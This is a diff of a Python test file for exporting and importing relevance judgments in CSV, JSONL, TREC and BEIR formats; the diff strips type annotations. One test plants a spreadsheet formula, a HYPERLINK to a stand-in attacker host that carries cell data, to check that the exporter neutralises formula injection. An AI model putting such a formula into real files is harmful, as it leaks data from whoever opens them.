@@ -1,19 +1,14 @@
 """Judgments out as files and in again: exact, once, and never half of a broken file."""
 
-from __future__ import annotations
-
 import csv
 import json
 import shutil
-from collections.abc import Mapping
-from pathlib import Path
 
 import pytest
 
 from engine.collections import judgment_formats
 from engine.collections.readers import read_collection
 from engine.errors import BadInputError, UnknownNameError
-from engine.explorer import Explorer
 from engine.types.annotating import BINARY, Judgment, Project
 from engine.types.corpora import ImportRequest
 from engine.types.searches import Query
@@ -26,7 +21,7 @@ ANY = "bread-survey_any"
 
 
 @pytest.fixture(scope="module")
-def judged_home(small_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+def judged_home(small_home, tmp_path_factory):
     """A home with a project ``p``: everything that a judgment can have, and an undo."""
     home = tmp_path_factory.mktemp("judged") / "home"
     shutil.copytree(small_home, home)
@@ -56,20 +51,20 @@ def judged_home(small_home: Path, tmp_path_factory: pytest.TempPathFactory) -> P
 
 
 @pytest.fixture
-def judged(judged_home: Path, home: Path) -> Explorer:
+def judged(judged_home, home):
     """An explorer over a copy of that home."""
     shutil.copytree(judged_home, home)
     return make_explorer(home)
 
 
 @pytest.fixture
-def other(small_home: Path, tmp_path: Path) -> Explorer:
+def other(small_home, tmp_path):
     """Another home with the same corpus, and a project ``p`` of the same queries."""
     shutil.copytree(small_home, tmp_path / "other")
     return make_explorer(tmp_path / "other")
 
 
-def empty_project(explorer: Explorer, like: Explorer) -> Project:
+def empty_project(explorer, like):
     annotation = explorer.annotation
     project = annotation.save(like.annotation.project("small", "p"), "lead")
     queries = like.annotation.queries(project)
@@ -77,19 +72,19 @@ def empty_project(explorer: Explorer, like: Explorer) -> Project:
     return project
 
 
-def write(explorer: Explorer, project: Project, out: Path, kind: str, **options: object) -> Path:
+def write(explorer, project, out, kind, **options):
     annotation = explorer.annotation
     annotation.exchange.export(project, kind, **options).write(out)
     return out
 
 
-def handed_over(judged: Explorer, folder: Path) -> Path:
+def handed_over(judged, folder):
     """All that "ann" did until now, as one file."""
     project = judged.annotation.project("small", "p")
     return write(judged, project, folder / "ann.jsonl", "hand-over", annotator="ann")
 
 
-def contents(folder: Path) -> Mapping[str, str]:
+def contents(folder):
     return {p.name: p.read_text("utf-8") for p in folder.rglob("*") if p.is_file()}
 
 
@@ -97,9 +92,7 @@ def contents(folder: Path) -> Mapping[str, str]:
 
 
 @pytest.mark.parametrize("kind", ["csv", "jsonl"])
-def test_all_annotators_in_one_file_come_back_exactly_and_once(
-    judged: Explorer, other: Explorer, tmp_path: Path, kind: str
-) -> None:
+def test_all_annotators_in_one_file_come_back_exactly_and_once(judged, other, tmp_path, kind):
     project = judged.annotation.project("small", "p")
     file = write(judged, project, tmp_path / f"a.{kind}", kind, per_annotator=True)
     empty_project(other, judged)
@@ -112,7 +105,7 @@ def test_all_annotators_in_one_file_come_back_exactly_and_once(
     assert back.read_text("utf-8") == file.read_text("utf-8")
 
 
-def test_a_note_is_no_formula_in_the_csv_for_spreadsheets(judged: Explorer, tmp_path: Path) -> None:
+def test_a_note_is_no_formula_in_the_csv_for_spreadsheets(judged, tmp_path):
     project = judged.annotation.project("small", "p")
     formula = '=HYPERLINK("https://evil.example?"&A1)'
     judged.annotation.judge(project, Judgment("own", "tides-network", "eve", 1, note=formula))
@@ -126,8 +119,8 @@ def test_a_note_is_no_formula_in_the_csv_for_spreadsheets(judged: Explorer, tmp_
 
 
 def test_a_hand_over_makes_the_project_elsewhere_with_the_judgments_of_one_annotator(
-    judged: Explorer, other: Explorer, tmp_path: Path
-) -> None:
+    judged, other, tmp_path
+):
     project = judged.annotation.project("small", "p")
     file = handed_over(judged, tmp_path)
     found = other.annotation.exchange.import_("small", file)
@@ -142,9 +135,7 @@ def test_a_hand_over_makes_the_project_elsewhere_with_the_judgments_of_one_annot
 
 
 @pytest.mark.parametrize("kind", ["csv", "jsonl", "beir"])
-def test_adjudicated_grades_come_back_as_whose_they_were(
-    judged: Explorer, other: Explorer, tmp_path: Path, kind: str
-) -> None:
+def test_adjudicated_grades_come_back_as_whose_they_were(judged, other, tmp_path, kind):
     project = judged.annotation.project("small", "p")
     judged.annotation.judge(project, Judgment("own", "bread-network", "bob B.", 2))
     exported = judged.annotation.exchange.export(project, kind)
@@ -164,9 +155,7 @@ def test_adjudicated_grades_come_back_as_whose_they_were(
     assert grades[0] == grades[1]
 
 
-def test_adjudicated_grades_come_back_as_the_same_trec_file(
-    judged: Explorer, other: Explorer, tmp_path: Path
-) -> None:
+def test_adjudicated_grades_come_back_as_the_same_trec_file(judged, other, tmp_path):
     project = judged.annotation.project("small", "p")
     file = write(judged, project, tmp_path / "a.qrels", "trec")
     empty_project(other, judged)
@@ -176,7 +165,7 @@ def test_adjudicated_grades_come_back_as_the_same_trec_file(
     assert back.read_text("utf-8") == file.read_text("utf-8")
 
 
-def test_a_beir_folder_is_a_collection_with_its_documents(judged: Explorer, tmp_path: Path) -> None:
+def test_a_beir_folder_is_a_collection_with_its_documents(judged, tmp_path):
     out = write(judged, judged.annotation.project("small", "p"), tmp_path / "beir", "beir")
     collection = read_collection(out)
     assert collection.qrels[METHOD] == {"bread-network": 2}
@@ -185,9 +174,7 @@ def test_a_beir_folder_is_a_collection_with_its_documents(judged: Explorer, tmp_
     assert query["metadata"] == {"seed": "bees-network", "aspect": "method"}
 
 
-def test_a_beir_folder_has_the_grades_of_a_query_whose_seed_has_left_the_corpus(
-    judged: Explorer, tmp_path: Path
-) -> None:
+def test_a_beir_folder_has_the_grades_of_a_query_whose_seed_has_left_the_corpus(judged, tmp_path):
     left = [one for one in DOCUMENTS if one["doc_id"] != "bees-network"]
     judged.library.delete("small")
     judged.library.import_documents(
@@ -211,9 +198,7 @@ def test_a_beir_folder_has_the_grades_of_a_query_whose_seed_has_left_the_corpus(
     assert "is not among those asked" in " ".join(read.warnings), "the others can be read"
 
 
-def test_a_file_per_annotator_says_what_it_has_no_place_for(
-    judged: Explorer, tmp_path: Path
-) -> None:
+def test_a_file_per_annotator_says_what_it_has_no_place_for(judged, tmp_path):
     annotation = judged.annotation
     found = annotation.exchange.export(annotation.project("small", "p"), "trec", per_annotator=True)
     (tmp_path / "out").mkdir()
@@ -228,9 +213,7 @@ def test_a_file_per_annotator_says_what_it_has_no_place_for(
 # -- bad input -------------------------------------------------------------------------------------
 
 
-def test_of_two_lines_about_an_item_the_last_one_counts(
-    judged: Explorer, other: Explorer, tmp_path: Path
-) -> None:
+def test_of_two_lines_about_an_item_the_last_one_counts(judged, other, tmp_path):
     project = judged.annotation.project("small", "p")
     file = write(judged, project, tmp_path / "a.jsonl", "jsonl", annotator="bob B.")
     lines = file.read_text("utf-8").splitlines()
@@ -246,7 +229,7 @@ def test_of_two_lines_about_an_item_the_last_one_counts(
     assert said["bread-network"] == 3
 
 
-def test_a_file_must_fit_the_project_it_goes_into(judged: Explorer, tmp_path: Path) -> None:
+def test_a_file_must_fit_the_project_it_goes_into(judged, tmp_path):
     annotation = judged.annotation
     project = annotation.project("small", "p")
     file = write(judged, project, tmp_path / "a.jsonl", "jsonl", per_annotator=True)
@@ -259,7 +242,7 @@ def test_a_file_must_fit_the_project_it_goes_into(judged: Explorer, tmp_path: Pa
         annotation.exchange.import_("small", qrels(tmp_path, GOOD), "three", annotator="x")
 
 
-def test_what_cannot_be_exported_says_why(judged: Explorer, tmp_path: Path) -> None:
+def test_what_cannot_be_exported_says_why(judged, tmp_path):
     annotation = judged.annotation
     with pytest.raises(BadInputError, match="no grades to export"):
         annotation.exchange.export(annotation.project("small"))
@@ -282,7 +265,7 @@ def test_what_cannot_be_exported_says_why(judged: Explorer, tmp_path: Path) -> N
 # -- queries and sizes -----------------------------------------------------------------------------
 
 
-def beir_folder(folder: Path, text: str, **about: str) -> Path:
+def beir_folder(folder, text, **about):
     """A document judged for the query ``1``, which asks for a text."""
     (folder / "qrels").mkdir(parents=True)
     (folder / "qrels" / "test.tsv").write_text(
@@ -292,9 +275,7 @@ def beir_folder(folder: Path, text: str, **about: str) -> Path:
     return folder
 
 
-def test_grades_for_another_query_of_the_same_id_are_refused(
-    small_copy: Explorer, tmp_path: Path
-) -> None:
+def test_grades_for_another_query_of_the_same_id_are_refused(small_copy, tmp_path):
     annotation = small_copy.annotation
     first = beir_folder(tmp_path / "first", "How does a loaf rise?", instruction="with yeast")
     assert annotation.exchange.import_("small", first, annotator="ann").added == 1
@@ -310,8 +291,8 @@ def test_grades_for_another_query_of_the_same_id_are_refused(
 
 
 def test_files_that_are_too_large_for_a_page_are_refused_before_they_fill_the_memory(
-    judged: Explorer, monkeypatch: pytest.MonkeyPatch
-) -> None:
+    judged, monkeypatch
+):
     monkeypatch.setattr(judgment_formats, "EXPORT_BYTES", 5_000)
     project = judged.annotation.project("small", "p")
     exported = judged.annotation.exchange.export(project, "beir")
